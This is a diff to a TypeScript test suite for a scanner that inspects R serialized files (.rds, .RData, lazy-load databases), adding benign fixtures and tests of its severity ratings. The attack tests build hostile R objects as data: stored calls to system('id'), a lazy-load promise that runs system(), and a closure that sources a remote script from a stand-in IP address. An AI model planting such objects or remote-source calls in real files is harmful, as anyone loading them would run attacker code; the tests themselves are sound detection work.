@@ -18,7 +18,7 @@ const rules = (r: FileReport, sev?: string) => r.findings.filter((f) => !sev || 
 describe('rdata: benign files written by R stay below WARNING', () => {
   const BENIGN = ['data-frame.rds', 'lm-model.rds', 'glm-binomial.rds', 'factor.rds', 'list.rds', 'function.rds',
     'function-bytecode.rds', 'xdr-v2.rds', 'ascii.rds', 'native-binary.rds', 'bzip2.rds', 'xz.rds', 'workspace.RData',
-    'ascii.rda', 'lazydata.rdb', 'lazydata.rdx', 'rpart.rds', 'mgcv-gam.rds', 'nnet.rds', 'coxph.rds', 'ecdf.rds'];
+    'ascii.rda', 'lazydata.rdb', 'lazydata.rdx', 'rpart.rds', 'mgcv-gam.rds', 'nnet.rds', 'coxph.rds', 'ecdf.rds', 'package-code.rdb', 'package-code.rdx'];
   for (const name of BENIGN) {
     it(`reads ${name} completely with nothing at WARNING or above`, async () => {
       const r = await scanFixture(`benign/${name}`);
@@ -47,6 +47,12 @@ describe('rdata: benign files written by R stay below WARNING', () => {
   it('lists the variables of a save() workspace', async () => {
     const r = await scanFixture('benign/workspace.RData');
     expect(r.nodes.find((n) => n.format === 'rdata')!.notes!['variables']).toEqual(['weights', 'bias', 'df']);
+  });
+
+  it('a lazy-load database of raw LZMA2 entries (compress = 3) is not decoded: incomplete, never clean', async () => {
+    const r = await scanFixture('benign/lazydata-lzma2.rdb');
+    expect(rules(r)).toEqual(['scan/limit-reached']);
+    expect(r.complete).toBe(false);
   });
 
   it('finds every entry of a lazy-load database', async () => {
@@ -95,11 +101,27 @@ describe('rdata: attacks', () => {
     expect(f.severity).toBe('warning');
   });
 
-  it('a stored call to system (data, not code) is a WARNING; eval in a closure is a WARNING', async () => {
+  it('a stored call to system (data, not code) is a WARNING; source(URL) in a function body is a WARNING', async () => {
     const data = await scanBytes(xdr(list(call('system', strsxp('id')))), 'c.rds');
     expect(data.findings.find((x) => x.ruleId === 'rdata/dangerous-call')!.severity).toBe('warning');
-    const ev = await scanBytes(xdr(closure(call('eval', call('parse', strsxp('x')))) ), 'e.rds');
-    expect(ev.findings.filter((x) => x.ruleId === 'rdata/dangerous-call').map((x) => x.severity)).toEqual(['warning', 'warning']);
+    const src = await scanBytes(xdr(closure(call('source', strsxp('http://203.0.113.7/x.R')))), 's.rds');
+    expect(src.findings.find((x) => x.ruleId === 'rdata/dangerous-call')!.severity).toBe('warning');
+  });
+
+  it('eval(parse(text = ...)) in a function body is INFO: everyday R (model code re-evaluates its call)', async () => {
+    const ev = await scanBytes(xdr(closure(call('eval', call('parse', strsxp('x'))))), 'e.rds');
+    expect(ev.findings.filter((x) => x.ruleId === 'rdata/dangerous-call').map((x) => x.severity)).toEqual(['info', 'info']);
+  });
+
+  it('in a lazy-load database entry (package code) system() in a function is a WARNING, a promise stays CRITICAL', async () => {
+    const { zlibSync } = await import('fflate');
+    const entry = (stream: Uint8Array) => cat(i32(stream.length), zlibSync(stream));
+    const db = cat(entry(xdr(closure(call('system', strsxp('ls'))))), entry(xdr(promise(call('system', strsxp('id'))))));
+    const r = await scanBytes(db, 'pkg.rdb');
+    expect(r.findings.filter((f) => f.ruleId.startsWith('rdata/') && f.ruleId !== 'rdata/closure').map((f) => [f.ruleId, f.severity]).sort())
+      .toEqual([['rdata/dangerous-call', 'warning'], ['rdata/promise', 'critical']]);
+    expect(r.nodes[0]!.notes!['entries']).toBe(2);
+    expect(r.complete).toBe(true);
   });
 
   it('pkg::fn calls are judged by their qualified name (processx::run)', async () => {
